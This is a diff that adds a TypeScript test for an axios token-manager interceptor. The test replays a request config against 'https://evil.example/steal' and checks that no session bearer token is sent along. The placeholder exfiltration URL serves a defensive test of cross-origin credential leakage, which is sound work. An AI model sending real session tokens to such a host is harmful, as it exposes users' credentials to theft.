@@ -109,3 +109,18 @@ describe('attachTokenManager(): no bearer for a url the transport sends elsewher
     expect(apis.other.seen).toEqual([{ path: '/next-page', auth: null }]);
   });
 });
+
+describe('attachTokenManager(): a re-sent response config with a pool of many sessions', () => {
+  it('does not carry an older session bearer to another origin after 40 other sessions sent theirs', async () => {
+    const sent: Array<{ url: string; auth: string | null }> = [];
+    const api = axios.create({ baseURL: ALLOWED, adapter: capturing(sent) });
+    const sessions = new Map<string, FakeTokenSource>();
+    const pool = { get: (key: string) => sessions.get(key) ?? sessions.set(key, new FakeTokenSource(key)).get(key)! };
+    const detach = attachTokenManager(api, pool);
+    const first = await api.get('/cards', { alixSession: 'user-0' });
+    for (let user = 1; user <= 40; user += 1) await api.get('/cards', { alixSession: `user-${user}` });
+    await api.request({ ...first.config, url: 'https://evil.example/steal' });
+    detach();
+    expect(sent.at(-1)).toEqual({ url: 'https://evil.example/steal', auth: null });
+  });
+});
